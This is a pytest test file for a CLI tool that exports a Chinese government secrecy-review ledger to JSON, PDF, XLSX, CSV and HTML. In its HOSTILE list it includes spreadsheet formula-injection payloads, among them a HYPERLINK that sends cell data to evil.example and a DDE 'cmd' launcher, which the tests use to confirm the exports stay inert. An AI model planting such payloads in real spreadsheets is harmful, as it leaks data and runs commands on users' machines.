"""The 台账 built from a ledger made through the real workflow, in every output format."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pdfplumber
import pytest
from click.testing import CliRunner

from secreview.cli import main
from tests.helpers.audit_ledger import FULL_ID, MASKED_ID, Items, day, ok
from tests.helpers.ledger import cli, cli_json, copy_ledger, head, passphrase

AUDITOR = "孙审计"


@pytest.fixture
def built(audit_built: tuple[Path, Items]) -> tuple[Path, Items]:
    return audit_built


@pytest.fixture
def ledger(built: tuple[Path, Items], tmp_path: Path) -> tuple[Path, Items]:
    """A private copy: every audit appends an event, so tests must not share the file."""
    db, items = built
    return copy_ledger(db, tmp_path / "台账.db"), items


def period() -> list[str]:
    return ["--from", day(-1), "--to", day(1)]


def test_json_rows_and_statistics(ledger: tuple[Path, Items], runner: CliRunner) -> None:
    db, it = ledger
    data = cli_json(runner, db, AUDITOR, "audit", *period())
    rows = {r["id"]: r["cells"] for r in data["rows"]}
    assert list(rows) == [
        it.ids[k] for k in ("passed", "rejected", "revised", "dismissed", "id", "finance")
    ]
    assert [r["cells"]["序号"] for r in data["rows"]] == ["1", "2", "3", "4", "5", "6"]

    passed = rows[it.ids["passed"]]
    assert passed["信息标题"] == "春季植树通知"
    assert passed["文号"] == "示林办发〔2026〕7号"
    assert passed["拟公开单位"] == "办公室" and passed["拟稿人"] == "张三"
    assert passed["稿件编号"] == f"{it.ids['passed']} 第1版"
    assert passed["审核领导及意见（北京时间）"].startswith("王领导：同意签批 ")
    assert passed["公开渠道/网址"] == "政府网站 https://www.example.gov.cn/a/植树通知.txt"
    assert passed["发现摘要"] == "未发现问题"

    rejected = rows[it.ids["rejected"]]
    assert rejected["发现摘要"] == "文档残留 1"
    assert "审查员甲" in rejected["保密审查员及意见"] and "网页注释未清理" in rejected["备注"]
    assert rejected["公开时间（北京时间）"] == ""
    assert "审查员甲：退回" in rejected["保密审查员及意见"]
    assert "第1版经保密审查退回（审查员甲）：网页注释未清理" in rejected["备注"]

    revised = rows[it.ids["revised"]]
    assert revised["稿件编号"] == f"{it.ids['revised']} 第2版"
    assert "第2版" in revised["备注"] and "含密级标志须删除" in revised["备注"]
    assert revised["发现摘要"] == "未发现问题"  # the latest version's report
    assert revised["公开渠道/网址"].endswith("dating.html")

    dismissed = rows[it.ids["dismissed"]]
    assert dismissed["发现摘要"] == "国家秘密 1"
    assert "系引用已解密文件的原标志" in dismissed["保密审查员及意见"]
    assert "领导接受" in dismissed["备注"]

    pid = rows[it.ids["id"]]
    assert pid["信息标题"] == f"表彰公示（{MASKED_ID}）"
    # a leader's return is a return, never a sign-off (issue 18: "已签批…退回")
    leader = pid["审核领导及意见（北京时间）"]
    assert leader.startswith("王领导：退回 ") and "签批" not in leader
    assert "经领导审核退回（王领导）" in pid["备注"] and MASKED_ID in pid["备注"]
    assert all(r["version"] == (2 if r["id"] == it.ids["revised"] else 1) for r in data["rows"])
    assert rows[it.ids["passed"]]["文号"] == "示林办发〔2026〕7号"
    assert [r["doc_number"] for r in data["rows"]][0] == "示林办发〔2026〕7号"

    s = data["stats"]
    assert (s["submitted"], s["approved"], s["rejected"], s["published"]) == (6, 4, 2, 3)
    assert s["findings_by_category"]["state_secret"] == 1
    assert s["findings_by_category"]["residue"] == 1
    assert s["findings_by_rule"]["pii.resident_id"] == 1
    assert sum(s["findings_by_month"].values()) == sum(s["findings_by_category"].values())
    assert s["median_hours_to_signoff"] is not None and s["median_hours_to_signoff"] < 1
    assert s["published_without_signoff"] == []

    count, head_hash = head(db)
    assert data["ledger"] == {
        "events": count,
        "head": head_hash,
        "verify_ok": True,
        "verify_message": "",
        "checkpoint": "",
    }
    verify = cli_json(runner, db, AUDITOR, "ledger", "verify", "--expect-head", head_hash)
    assert verify["ok"] is True
    assert FULL_ID not in json.dumps(data, ensure_ascii=False)


def test_period_and_department_filters(ledger: tuple[Path, Items], runner: CliRunner) -> None:
    db, it = ledger
    later = cli_json(runner, db, AUDITOR, "audit", "--from", day(1), "--to", day(30))
    assert later["rows"] == [] and later["stats"]["submitted"] == 0
    finance = cli_json(runner, db, AUDITOR, "audit", *period(), "--dept", "财务科")
    assert [r["id"] for r in finance["rows"]] == [it.ids["finance"]]
    assert finance["period"]["dept"] == "财务科"
    named = cli_json(runner, db, AUDITOR, "audit", "--office", "示例县人民政府办公室")
    assert named["title"] == "示例县人民政府办公室政府信息公开保密审查台账"
    assert len(named["rows"]) == 6  # no dates: the whole ledger


def test_pdf(ledger: tuple[Path, Items], runner: CliRunner, tmp_path: Path) -> None:
    db, it = ledger
    out = tmp_path / "台账.pdf"
    r = cli(
        runner,
        db,
        AUDITOR,
        "audit",
        *period(),
        "--office",
        "示例县",
        "--format",
        "pdf",
        "-o",
        str(out),
    )
    ok(r)
    assert str(out) in r.stdout.replace("\n", "")
    _, head_hash = head(db)
    with pdfplumber.open(out) as pdf:
        pages = [p.extract_text() or "" for p in pdf.pages]
    text = "\n".join(pages)
    flat = text.replace("\n", "")
    assert "示例县政府信息公开保密审查台账" in text
    for header in ("序号", "信息标题", "文号", "拟公开单位", "拟稿人", "保密审查员及意见", "备注"):
        assert header in pages[0], header
    assert "春季植树通知" in text and "示林办发〔2026〕7号" in text
    assert head_hash in flat
    assert "第 1 页 共" in pages[0]
    assert "检查人" in pages[-1] and "被检查单位负责人" in pages[-1]
    assert FULL_ID not in flat and "110105" in flat


def test_xlsx(ledger: tuple[Path, Items], runner: CliRunner, tmp_path: Path) -> None:
    db, it = ledger
    out = tmp_path / "台账.xlsx"
    ok(cli(runner, db, AUDITOR, "audit", *period(), "--format", "xlsx", "-o", str(out)))
    wb = openpyxl.load_workbook(out)
    ws = wb["台账"]
    assert [c.value for c in ws[3]][:5] == ["序号", "稿件编号", "版本", "信息标题", "文号"]
    assert ws.freeze_panes == "A4"
    titles = [ws.cell(row=r, column=4).value for r in range(4, 10)]
    assert titles == [
        it.titles[k].replace(FULL_ID, MASKED_ID)
        for k in ("passed", "rejected", "revised", "dismissed", "id", "finance")
    ]
    assert ws.cell(row=10, column=4).value is None
    assert [ws.cell(row=r, column=3).value for r in range(4, 10)] == [1, 1, 2, 1, 1, 1]
    assert ws.cell(row=4, column=5).value == "示林办发〔2026〕7号"
    # typed cells (issue 18): numbers are numbers, times are dates (北京时间)
    header = [c.value for c in ws[3]]
    first = {h: ws.cell(row=4, column=i + 1) for i, h in enumerate(header)}
    assert first["序号"].data_type == "n" and first["序号"].value == 1
    assert [ws.cell(row=r, column=2).value for r in range(4, 10)] == [
        it.ids[k] for k in ("passed", "rejected", "revised", "dismissed", "id", "finance")
    ]
    submitted = first["提交时间（北京时间）"]
    assert submitted.is_date and submitted.value.date().isoformat() == day(0)
    assert first["发现问题数"].data_type == "n"
    assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A3:")
    stats = {row[0].value: row[1].value for row in wb["统计"].iter_rows() if row[0].value}
    assert stats["提交事项"] == 6 and stats["已公开"] == 3
    values = [
        str(c.value) for sh in wb.worksheets for row in sh.iter_rows() for c in row if c.value
    ]
    assert not any(FULL_ID in v for v in values)
    assert any(head(db)[1] in v for v in values)


def test_csv_round_trips_with_bom(
    ledger: tuple[Path, Items], runner: CliRunner, tmp_path: Path
) -> None:
    db, it = ledger
    out = tmp_path / "台账.csv"
    ok(cli(runner, db, AUDITOR, "audit", *period(), "--format", "csv", "-o", str(out)))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0][:3] == ["序号", "稿件编号", "信息标题"] and len(rows) == 7
    assert rows[1][1] == f"{it.ids['passed']} 第1版"
    assert rows[1][2] == "春季植树通知" and rows[1][3] == "示林办发〔2026〕7号"
    assert rows[5][2] == f"表彰公示（{MASKED_ID}）"
    assert FULL_ID not in raw.decode("utf-8-sig")


def test_html_and_text(ledger: tuple[Path, Items], runner: CliRunner, tmp_path: Path) -> None:
    db, it = ledger
    out = tmp_path / "台账.html"
    ok(cli(runner, db, AUDITOR, "audit", *period(), "--format", "html", "-o", str(out)))
    html = out.read_text(encoding="utf-8")
    assert "<svg" in html and "春季植树通知" in html and head(db)[1] in html
    # every row traceable: id and version, and the 文号 found (issue 18: it was empty)
    assert "<td>示林办发〔2026〕7号</td>" in html
    for label, sid in it.ids.items():
        assert f"<td>{sid} 第{2 if label == 'revised' else 1}版</td>" in html
    assert "表中时间均为北京时间" in html and "提交时间（北京时间）" in html
    assert FULL_ID not in html and MASKED_ID in html
    r = cli(runner, db, AUDITOR, "audit", *period())
    ok(r)
    flat = r.stdout.replace("\n", "").replace(" ", "").replace("│", "")
    assert "保密审查台账" in r.stdout and "链头哈希" in r.stdout
    assert "春季植树通知" in flat and "示林办发〔2026〕7号" in flat
    assert all(sid in flat for sid in it.ids.values())
    assert head(db)[1] in r.stdout.replace("\n", "")
    assert FULL_ID not in flat


def test_file_format_without_output_writes_default_name(
    ledger: tuple[Path, Items], runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    db, _ = ledger
    monkeypatch.chdir(tmp_path)
    r = cli(
        runner,
        db,
        AUDITOR,
        "audit",
        "--from",
        "2026-01-01",
        "--to",
        "2026-12-31",
        "--format",
        "csv",
    )
    ok(r)
    expected = tmp_path / "保密审查台账-2026-01-01-2026-12-31.csv"
    assert expected.exists() and expected.name in r.stdout


# -- issue 18: the format from -o, rule names ----------------------------------------------------


@pytest.mark.parametrize(
    ("name", "check"),
    [
        ("台账.pdf", lambda p: p.read_bytes().startswith(b"%PDF")),
        ("台账.xlsx", lambda p: p.read_bytes().startswith(b"PK")),
        ("台账.CSV", lambda p: p.read_bytes().startswith(b"\xef\xbb\xbf")),
        ("台账.html", lambda p: "<!DOCTYPE html>" in p.read_text(encoding="utf-8")),
        ("台账.json", lambda p: json.loads(p.read_text(encoding="utf-8"))["rows"]),
        ("台账.txt", lambda p: "保密审查台账" in p.read_text(encoding="utf-8")),
    ],
)
def test_output_suffix_sets_the_format(ledger, runner, tmp_path, name, check) -> None:
    db, _ = ledger
    out = tmp_path / name
    ok(cli(runner, db, AUDITOR, "audit", *period(), "-o", str(out)))
    assert check(out)


@pytest.mark.parametrize(
    ("name", "fmt", "fragment"),
    [
        ("台账.pdf", "text", "与 --format text 不一致"),
        ("台账.xlsx", "csv", "与 --format csv 不一致"),
        ("台账.json", "pdf", "扩展名 .json"),
        ("台账.doc", None, "无法从输出文件名"),
        ("台账", None, "无法从输出文件名"),
    ],
)
def test_output_suffix_that_contradicts_is_a_usage_error(
    ledger, runner, tmp_path, name, fmt, fragment
) -> None:
    db, _ = ledger
    out = tmp_path / name
    args = ["audit", *period(), "-o", str(out)] + (["--format", fmt] if fmt else [])
    r = cli(runner, db, AUDITOR, *args)
    assert r.exit_code == 2
    assert fragment in r.stderr and len(r.stderr.strip().splitlines()) == 1
    assert not out.exists()


def test_unknown_suffix_with_explicit_format_is_written(ledger, runner, tmp_path) -> None:
    db, _ = ledger
    out = tmp_path / "台账.backup"
    ok(cli(runner, db, AUDITOR, "audit", *period(), "--format", "pdf", "-o", str(out)))
    assert out.read_bytes().startswith(b"%PDF")


def test_audit_names_rules_in_chinese_with_the_id_as_a_note(ledger, runner) -> None:
    db, it = ledger
    data = cli_json(runner, db, AUDITOR, "audit", *period())
    row = next(r for r in data["rows"] if r["id"] == it.ids["dismissed"])
    assert (
        "密级标志（marking.secret_level）：系引用已解密文件的原标志"
        in (row["cells"]["保密审查员及意见"])
    )
    r = runner.invoke(
        main,
        ["--db", str(db), "--as", AUDITOR, "audit", *period()],
        env={"COLUMNS": "200", "SECREVIEW_PASSPHRASE": passphrase(AUDITOR)},
    )
    assert "规则：密级标志（marking.secret_level）" in r.stdout.replace("\n", "")


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "  =1+1",
    "\t=1+1",
    "＝1+1",
]


def test_spreadsheet_cells_never_become_formulas(
    office: Path, runner: CliRunner, tmp_path: Path
) -> None:
    """Titles (and a reviewer's reason) a spreadsheet would run are written as inert text."""
    from secreview.report.cells import neutralise
    from tests.helpers.ledger import write_doc

    for i, title in enumerate(HOSTILE):
        doc = write_doc(tmp_path, f"h{i}.txt", "pass", salt=str(i))
        cli_json(runner, office, "张三", "submit", str(doc), "--title", title, "--dept", "办公室")
    rej = write_doc(tmp_path, "r.html", "review")
    sid = cli_json(
        runner, office, "张三", "submit", str(rej), "--title", "普通标题", "--dept", "办公室"
    )["id"]
    ok(cli(runner, office, "审查员甲", "review", sid, "--reject", "--comment", "=1+2 请修改"))
    xlsx, csv_out = tmp_path / "a.xlsx", tmp_path / "a.csv"
    ok(cli(runner, office, AUDITOR, "audit", "--format", "xlsx", "-o", str(xlsx)))
    ok(cli(runner, office, AUDITOR, "audit", "--format", "csv", "-o", str(csv_out)))
    wb = openpyxl.load_workbook(xlsx)
    cells = [c for sh in wb.worksheets for row in sh.iter_rows() for c in row if c.value]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    header = [c.value for c in wb["台账"][3]]
    col = header.index("信息标题") + 1
    title_cells = [wb["台账"].cell(row=r, column=col) for r in range(4, 4 + len(HOSTILE))]
    assert [c.value for c in title_cells] == [t.strip() for t in HOSTILE]  # submit trims it
    assert all(c.data_type == "s" and c.quotePrefix for c in title_cells)
    with csv_out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [r[2] for r in rows[1 : 1 + len(HOSTILE)]] == ["'" + t.strip() for t in HOSTILE]
    for r in rows:
        for cell in r:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The raw XML holds no <f> element at all.
    import zipfile

    with zipfile.ZipFile(xlsx) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets)
    assert neutralise("普通标题") == "普通标题" and neutralise("1-2") == "1-2"
    for lead in ("  =1", "\t=1", "\r=1", "\u3000@x", "\t", "-", "＋1"):
        assert neutralise(lead) == "'" + lead


def test_audit_prints_the_last_checkpoint(office: Path, runner: CliRunner) -> None:
    cp = cli_json(runner, office, AUDITOR, "ledger", "checkpoint")
    data = cli_json(runner, office, AUDITOR, "audit")
    assert data["ledger"]["checkpoint"].startswith(f"第 {cp['seq']} 条")
    assert cp["head"][:16] in data["ledger"]["checkpoint"]
    text = cli(runner, office, AUDITOR, "audit")
    ok(text)
    assert "最近检查点" in text.stdout and cp["head"][:16] in text.stdout.replace("\n", "")
    # The printed head (a 16-digit prefix) is what an inspector types back in.
    prefix = data["ledger"]["head"][:16]
    found = cli_json(runner, office, "检查人员", "ledger", "verify", "--expect-head", prefix)
    assert found["expect_head_seq"] == data["ledger"]["events"]
    short = cli(runner, office, "检查人员", "ledger", "verify", "--expect-head", prefix[:11])
    assert short.exit_code == 2 and "12" in short.stderr
    wrong = cli(runner, office, "检查人员", "ledger", "verify", "--expect-head", "0" * 12)
    assert wrong.exit_code == 1 and "不在台账中" in wrong.stderr
